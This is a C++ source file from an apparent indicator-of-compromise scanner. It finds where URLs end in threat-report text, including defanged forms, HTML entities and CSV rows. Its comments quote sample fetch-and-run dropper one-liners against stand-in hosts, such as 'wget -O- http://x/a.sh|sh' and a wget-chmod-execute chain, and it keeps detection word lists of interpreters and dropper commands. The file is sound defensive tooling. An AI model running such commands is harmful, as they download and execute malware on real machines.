#include "families/url/url_cut.hpp"

#include "simd/ascii_class.hpp"
#include "simd/byte_set.hpp"
#include "families/url/url_parts.hpp"

#include <algorithm>
#include <optional>

namespace iocscan::detail {
namespace {

/// Length of the defanged dot, colon or slash that starts `rest` (0: none):
/// its brackets are part of the URL, not a stop.
std::size_t defang_token(std::string_view rest) {
    std::size_t token = dot_token(rest);
    if (token == 0) token = colon_token(rest);
    if (token == 0) token = slash_token(rest);
    return token;
}


constexpr ByteSet kStripAt{">\"'),};"};
/// What strip_length() must look at: token starts and kStripAt.
constexpr ByteSet kStripStops{"\\[(>\"'),};"};

/// Openers minus closers of each bracket kind in a URL, counted in one pass.
struct BracketBalance {
    long round = 0;
    long square = 0;
    long curly = 0;
    explicit BracketBalance(std::string_view s) {
        static constexpr ByteSet kBrackets{"()[]{}"};
        for (std::size_t i = 0; (i = kBrackets.find_in(s, i)) < s.size(); ++i) {
            switch (s[i]) {
                case '(': ++round; break;
                case ')': --round; break;
                case '[': ++square; break;
                case ']': --square; break;
                case '{': ++curly; break;
                default: --curly; break;
            }
        }
    }
};

/// Start of the first " /x" (spaces, then "/" and a letter) at or after
/// `from`, or npos.
std::size_t switch_start(std::string_view url, std::size_t from) {
    for (std::size_t i = from; i < url.size(); ++i) {
        if (url[i] != ' ') continue;
        std::size_t j = i;
        while (j < url.size() && url[j] == ' ') ++j;
        if (j + 1 < url.size() && url[j] == '/' && is_alpha(url[j + 1])) return i;
        i = j;
    }
    return std::string_view::npos;
}


/// Whether the "\\" at `i` starts a JSON/C escape: "\n" "\r" "\t" "\u"
/// "\"" "\'" or "\\" (but "\\." is a doubly escaped defang dot).
bool starts_escape(std::string_view url, std::size_t i) {
    if (i + 1 >= url.size()) return false;
    const char next = url[i + 1];
    if (next == '\\') return !(i + 2 < url.size() && url[i + 2] == '.');
    return next == 'n' || next == 'r' || next == 't' || next == 'u' || next == '"' || next == '\'';
}

/// Whether `rest` starts with one of `names` (any case), ending the text or
/// followed by a byte no file name holds ("sh;", "chmod+777") or by a
/// URL-encoded space ("chmod%20777", a command line inside a query): a
/// shell word, not the start of a path's name ("/a|shop", ";chmodx").
template <std::size_t N>
bool starts_shell_word(std::string_view rest, const std::string_view (&names)[N]) {
    static constexpr ByteSet kNameBytes{"-./=?#%~"};
    for (std::string_view name : names) {
        if (rest.size() < name.size() || !equal_ignoring_ascii_case(rest.substr(0, name.size()), name)) continue;
        if (rest.size() == name.size()) return true;
        const std::string_view after = rest.substr(name.size());
        if ((!is_word(after[0]) && !kNameBytes.contains(after[0])) || after.starts_with("%20")) return true;
    }
    return false;
}

/// Whether `rest`, the text after a "|" in a URL, is the name of a shell or
/// script interpreter that a one-liner pipes the download into
/// ("wget -O- http://x/a.sh|sh", "iwr http://x/s.ps1|iex"), ending the text
/// or followed by a byte no file name holds ("|sh;", "|bash)").
bool pipes_to_interpreter(std::string_view rest) {
    static constexpr std::string_view kInterpreters[] = {"bash", "dash", "iex", "ksh", "perl", "python", "python3", "sh", "zsh"};
    static constexpr ByteSet kFirstLetters{"bdikpszBDIKPSZ"};
    if (rest.empty() || !kFirstLetters.contains(rest[0])) return false;   // most "|" in URLs
    return starts_shell_word(rest, kInterpreters);
}

/// Whether `rest`, the text after a ";" in a URL's path, is the next
/// command of a shell one-liner ("wget+http://x/x86;chmod+777+x86;./x86",
/// the "+" a URL-encoded space): "./", or a command word that droppers run
/// after a download. A path parameter is no such word ("/a;jsessionid=1").
bool starts_shell_command(std::string_view rest) {
    static constexpr std::string_view kCommands[] = {"bash",  "busybox", "cat",   "cd",  "chmod", "chown", "cp",
                                                     "curl",  "echo",    "ftpget", "mkdir", "mv",  "nohup", "rm",
                                                     "sh",    "tftp",    "wget"};
    if (rest.starts_with("./")) return true;
    return !rest.empty() && is_alpha(rest[0]) && starts_shell_word(rest, kCommands);
}

/// Whether `rest`, the text after a "," in a URL's path, is a CSV row's
/// next field holding a date ("http://x/a.exe,2024-01-01,malware"): YYYY-MM-DD,
/// then the end, "," or an ISO time's "T". A path's "," is followed by
/// other text ("/@47.6,-122.3,15z", "?a=1,2,3").
bool starts_csv_date(std::string_view rest) {
    constexpr std::string_view kShape = "0000-00-00";
    if (rest.size() < kShape.size()) return false;
    for (std::size_t i = 0; i < kShape.size(); ++i) {
        if (kShape[i] == '0' ? !is_digit(rest[i]) : rest[i] != kShape[i]) return false;
    }
    return rest.size() == kShape.size() || rest[kShape.size()] == ',' || rest[kShape.size()] == 'T';
}

/// Where the HTML character reference that the ";" at `semicolon` ends
/// starts, when it writes a byte no URL holds ('"', '<', '>'), as in text
/// copied from HTML source or an RSS feed ("href=&quot;http://x/a&quot;&gt;");
/// or "'" and only trailing punctuation follows (the closing quote). Else npos.
std::size_t markup_entity_start(std::string_view url, std::size_t semicolon) {
    static constexpr std::string_view kNeverInUrl[] = {"&quot", "&lt", "&gt", "&#34", "&#60", "&#62", "&#x22", "&#x3c", "&#x3e"};
    static constexpr std::string_view kQuote[] = {"&#39", "&apos", "&#x27"};
    const std::string_view before = url.substr(0, semicolon);
    // Most ";" in URLs end no reference: one short search decides.
    constexpr std::size_t kLongestName = 5;   // "&#x22", "&quot", "&apos"
    if (before.substr(before.size() - std::min(before.size(), kLongestName)).find('&') == std::string_view::npos) {
        return std::string_view::npos;
    }
    const auto ends_with_one_of = [&](const auto& names) {
        for (std::string_view name : names) {
            if (before.size() >= name.size() && equal_ignoring_ascii_case(before.substr(before.size() - name.size()), name)) {
                return before.size() - name.size();
            }
        }
        return std::string_view::npos;
    };
    if (const std::size_t start = ends_with_one_of(kNeverInUrl); start != std::string_view::npos) return start;
    const std::size_t quote = ends_with_one_of(kQuote);
    if (quote == std::string_view::npos) return quote;
    // Read only after a quote's reference, so each byte once: the run ends
    // at the next "&" of any other reference.
    std::size_t end = semicolon + 1;
    while (end < url.size() && kTrailingPunctuation.contains(url[end])) ++end;
    return end == url.size() ? quote : std::string_view::npos;
}

/// Whether `rest` starts with a BBCode closing tag ("[/url]", "[/img]"):
/// forum posts wrap URLs in "[url]http://x/a[/url]". No URL path holds "[/"
/// unencoded but the defanged slash "[/]", which is no tag.
bool starts_closing_tag(std::string_view rest) {
    constexpr std::size_t kLongestTag = 8;
    std::size_t i = 2;
    if (!rest.starts_with("[/")) return false;
    while (i < rest.size() && i < 2 + kLongestTag && is_alpha(rest[i])) ++i;
    return i > 2 && i < rest.size() && rest[i] == ']';
}

}  // namespace

namespace {

/// What find_precise_stop() makes of a byte: a stop of kPreciseStops, a
/// wildcard or regex anchor that no host name holds (kPatternHints, noted
/// on the way), or neither.
enum : unsigned char { kPlainByte = 0, kStopByte = 1, kPatternHintByte = 2 };
constexpr auto kPreciseRole = byte_table<unsigned char>([](unsigned c) {
    const char byte = static_cast<char>(c);
    if (kPreciseStops.contains(byte)) return static_cast<unsigned char>(kStopByte);
    return static_cast<unsigned char>(kPatternHints.contains(byte) ? kPatternHintByte : kPlainByte);
});

/// kPreciseStops.find_in(url, from), four bytes a round: this reads every
/// URL the post-pass gets, most of them without a stop. `seen` gets
/// kPatternHintByte when a byte of kPatternHints lies before the stop.
std::size_t find_precise_stop(std::string_view url, std::size_t from, unsigned& seen) {
    // As numbers, so that the four lookups are or-ed without branches.
    const auto role = [&](std::size_t i) { return static_cast<unsigned>(kPreciseRole[static_cast<unsigned char>(url[i])]); };
    for (;;) {
        // Most URLs hold neither: the rounds end at the first block with one.
        for (; from + 4 <= url.size(); from += 4) {
            if ((role(from) | role(from + 1) | role(from + 2) | role(from + 3)) != 0) break;
        }
        const std::size_t block_end = std::min(from + 4, url.size());
        for (; from < block_end; ++from) {
            const unsigned byte = role(from);
            if ((byte & kStopByte) != 0) return from;
            seen |= byte;
        }
        if (from == url.size()) return from;
    }
}

std::size_t find_precise_stop(std::string_view url, std::size_t from) {
    unsigned ignored = 0;
    return find_precise_stop(url, from, ignored);
}

/// The openers that open_dot_token()s in a host leave unclosed ("[.",
/// "((.)"), and where the first of them starts: a closer that later finds
/// no other opener shows they opened a parenthesis, not a defang.
struct HalfOpenDots {
    long round = 0;
    long square = 0;
    std::size_t first = std::string_view::npos;
    void note(std::string_view token, std::size_t at) {
        const BracketBalance balance(token);
        round += balance.round;
        square += balance.square;
        if (first == std::string_view::npos && (balance.round > 0 || balance.square > 0)) first = at;
    }
    bool closes(char closer) const { return (closer == ')' ? round : square) > 0; }
};

/// What precise_length() read on the way.
struct PreciseRead {
    std::optional<UrlParts> split;   ///< split_url(url), when it had to split
    std::size_t first_stop = 0;      ///< of kPreciseStops (not a "|" into no interpreter), or url.size()
    bool backslash = false;          ///< false: no backslash before the length returned
    bool pattern_hint = false;       ///< a byte of kPatternHints or a "|" before first_stop
};

/// precise_length(), telling in `read` what it found.
std::size_t precise_length(std::string_view url, PreciseRead& read) {
    unsigned seen = kPlainByte;
    std::size_t first_stop = find_precise_stop(url, 0, seen);
    // A "|" first: the pipe of a one-liner ends the URL at once ("a.sh|sh",
    // a short URL every few bytes); any other is passed as no stop ("/a|b"),
    // but may be a regex's alternation ("http://a|b.example/").
    while (first_stop < url.size() && url[first_stop] == '|') {
        if (pipes_to_interpreter(url.substr(first_stop + 1))) break;
        seen |= kPatternHintByte;
        first_stop = find_precise_stop(url, first_stop + 1, seen);
    }
    read.first_stop = first_stop;
    read.pattern_hint = (seen & kPatternHintByte) != 0;
    if (first_stop == url.size()) return url.size();   // most URLs
    if (url[first_stop] == '|') return first_stop;
    // A log's quoted URL ("https://x.example/a"): after a plain scheme the
    // host starts right after "://" (what may come between is a stop), so a
    // '"' that is the first stop lies in the host or after it and ends the URL.
    if (url[first_stop] == '"' && (url.starts_with("http://") || url.starts_with("https://"))) return first_stop;
    const UrlParts& parts = read.split.emplace(split_url(url));
    long round = 0, square = 0, curly = 0;
    HalfOpenDots half_open;
    std::size_t i = 0;
    // The separator and the defang brackets before the host are kept whole.
    for (; i < parts.host_begin; ++i) {
        round += url[i] == '(' ? 1 : url[i] == ')' ? -1 : 0;
        square += url[i] == '[' ? 1 : url[i] == ']' ? -1 : 0;
        read.backslash = read.backslash || url[i] == '\\';
    }
    // An IPv6 literal and the tokens passed whole hold no backslash but at
    // their start, a stop: every backslash after the host's start is seen.
    if (const std::size_t v6 = ipv6_literal(url.substr(i)); v6 > 0) i += v6;
    while ((i = find_precise_stop(url, i)) < url.size()) {
        const std::string_view rest = url.substr(i);
        read.backslash = read.backslash || url[i] == '\\';
        if (url[i] == '\\' && i + 1 < url.size() && url[i + 1] == '/') {
            i += 2;   // JSON's "\/": no token, no escape, and "/" is no stop
            continue;
        }
        const bool in_host = i < parts.host_end;
        const std::size_t token = defang_token(rest);
        if (token > 0) {
            i += token;
            continue;
        }
        switch (url[i]) {
            case '"': case '<': case '>': return i;
            case '\\':
                if (starts_escape(url, i)) return i;
                break;
            case ' ':
                if (!in_host) return i;
                break;
            case ',':
                if (in_host ? !(i > 0 && is_digit(url[i - 1]) && i + 1 < url.size() && is_digit(url[i + 1]))
                            : starts_csv_date(rest.substr(1))) {
                    return i;
                }
                break;
            case ';':
                if (const std::size_t entity = markup_entity_start(url, i); entity != std::string_view::npos) return entity;
                // No host holds one: a list ("evil[.]com;evil[.]net") or a
                // key ("host=evil[.]com;port=443") goes on.
                if (in_host || starts_shell_command(rest.substr(1))) return i;
                break;
            case '[': case '(':
                if (starts_closing_tag(rest)) return i;
                if (in_host) {
                    // A bracketed IPv6 host after userinfo ("http://user@[::1]/").
                    if (i > 0 && url[i - 1] == '@') {
                        if (const std::size_t v6 = ipv6_literal(rest); v6 > 0) {
                            i += v6;
                            continue;
                        }
                    }
                    // Unbalanced defangs as iocextract reads them: "[." is a
                    // dot, and a "[" right before the path's "/" is half of "[/]".
                    if (const std::size_t dot = open_dot_token(rest); dot > 0) {
                        half_open.note(rest.substr(0, dot), i);
                        i += dot;
                        continue;
                    }
                    if (i + 1 == parts.host_end && url[i + 1] == '/') break;
                    return i;
                }
                ++(url[i] == '[' ? square : round);
                break;
            case '|':
                if (pipes_to_interpreter(rest.substr(1))) return i;
                break;
            case '{': ++curly; break;
            case ')': case ']':
                // The closer of a dot with no opener ("example.]com") is part of the dot.
                if (in_host) {
                    if (const std::size_t run = closing_dot_run(url.substr(0, parts.host_end), i); run > 0) {
                        i += run;
                        continue;
                    }
                }
                if (--(url[i] == ')' ? round : square) < 0) {
                    // It closes a half-open dot: "x.example(.txt)" is a parenthesis.
                    if (half_open.closes(url[i])) return half_open.first;
                    return i;
                }
                break;
            case '}': if (--curly < 0) return i; break;
            default: break;
        }
        ++i;
    }
    return url.size();
}

}  // namespace

std::size_t precise_length(std::string_view url) {
    PreciseRead read;
    return precise_length(url, read);
}

std::size_t trim_trailing_punctuation(std::string_view url) {
    std::size_t n = url.size();
    if (n <= 1 || !kTrailingPunctuation.contains(url[n - 1])) return n;   // most URLs
    // Without a closer among the trailing bytes, the brackets need no count.
    static constexpr ByteSet kClosers{")]}"};
    bool closer = false;
    for (std::size_t k = n; k > 1 && kTrailingPunctuation.contains(url[k - 1]); --k) closer = closer || kClosers.contains(url[k - 1]);
    if (!closer) {
        while (n > 1 && kTrailingPunctuation.contains(url[n - 1]) && !(url[n - 1] == '.' && url[n - 2] == '\\')) --n;
        return n;
    }
    const BracketBalance balance(url);
    long round = balance.round;
    long square = balance.square;
    long curly = balance.curly;
    while (n > 1 && kTrailingPunctuation.contains(url[n - 1])) {
        const char c = url[n - 1];
        // Removing a closer makes its kind's balance one higher; stop when
        // the closer matches an opener inside the URL.
        if ((c == ')' && round + 1 > 0) || (c == ']' && square + 1 > 0) || (c == '}' && curly + 1 > 0)) break;
        if (c == '.' && url[n - 2] == '\\') break;
        round += c == ')';
        square += c == ']';
        curly += c == '}';
        --n;
    }
    return n;
}

std::size_t without_trailing_pattern_marks(std::string_view url, bool pattern_hint) {
    const auto is_mark = [](char c) { return c == '*' || c == '^'; };
    std::size_t n = url.size();
    if (pattern_hint) {
        if (const std::size_t options = url.find("^$"); options != std::string_view::npos) n = options + 1;
    }
    if (n == 0 || !is_mark(url[n - 1])) return n;   // most URLs
    while (n > 0 && is_mark(url[n - 1])) --n;
    return trim_trailing_punctuation(url.substr(0, n));
}

std::size_t strip_length(std::string_view url) {
    const UrlParts parts = split_url(url);
    std::size_t n = url.size();
    if (url.find(' ') != std::string_view::npos) {
        // A space inside the host belongs to a spaced defang
        // ("evil .example .net /payload"); only a switch after it is cut.
        if (const std::size_t cut = switch_start(url, parts.host_end); cut != std::string_view::npos) n = cut;
    }
    std::size_t i = parts.host_begin;
    if (const std::size_t v6 = ipv6_literal(url.substr(i)); v6 > 0) i += v6;
    while ((i = kStripStops.find_in(url.substr(0, n), i)) < n) {
        const std::string_view rest = url.substr(i, n - i);
        const std::size_t token = defang_token(rest);
        if (token > 0) {
            i += token;
            continue;
        }
        const bool in_host = i < parts.host_end;
        const bool kept_in_host = url[i] == '(' || url[i] == ')' || url[i] == ',';
        if (kStripAt.contains(url[i]) && !(in_host && kept_in_host)) return i;
        ++i;
    }
    return n;
}

UrlCut cut_url_read(std::string_view url, bool open, bool strip) {
    UrlCut cut;
    PreciseRead read;
    cut.length = open ? url.size() : trim_trailing_punctuation(url.substr(0, precise_length(url, read)));
    if (!open) cut.length = without_trailing_pattern_marks(url.substr(0, cut.length), read.pattern_hint);
    cut.parts = read.split;
    cut.stop_free = !open && read.first_stop >= cut.length;
    cut.pattern_hint = read.pattern_hint;
    cut.backslash_free = !open && !read.backslash;
    if (strip) {
        cut.length = strip_length(url.substr(0, cut.length));
        if (!open) cut.length = trim_trailing_punctuation(url.substr(0, cut.length));
    }
    if (cut.parts) cut.parts = split_of_prefix(url, *cut.parts, cut.length);
    return cut;
}

std::size_t cut_url(std::string_view url, bool open, bool strip) { return cut_url_read(url, open, strip).length; }

}  // namespace iocscan::detail
